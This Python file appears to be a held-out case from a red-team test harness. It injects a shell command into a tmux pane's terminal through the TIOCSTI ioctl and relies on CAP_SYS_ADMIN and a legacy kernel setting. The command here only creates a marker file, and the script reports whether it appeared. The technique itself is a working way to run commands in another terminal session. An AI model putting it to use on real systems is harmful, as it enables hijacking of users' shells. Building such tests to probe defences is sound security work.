"""Round 3: type a command into the tmux pane's terminal with TIOCSTI (no tmux client, no socket).

With dev.tty.legacy_tiocsti = 1 (this host), CAP_SYS_ADMIN may push input
into any tty; the shell in the pane reads it as typed and runs it.
"""

from __future__ import annotations

import fcntl
import os
import termios
from typing import Any

from redteam import rt

GAP = 5
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 3
EXPECT = ("L2",)


def run(args: dict[str, Any]) -> None:
    tty = str(args["daemons"].get("tmux_pane_tty") or "")
    marker = str(args["marker"])
    if not tty.startswith("/dev/pts/"):
        rt.report(rt.now(), False, f"no tmux pane tty ({tty!r})")
        return
    fd = os.open(tty, os.O_RDWR | os.O_NOCTTY)
    t = rt.now()
    try:
        for ch in f"touch {marker}\n".encode():
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
    finally:
        os.close(fd)
    ok = rt.wait_file(marker)
    rt.report(t, ok, f"TIOCSTI into {tty}: marker {'created' if ok else 'missing'}")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
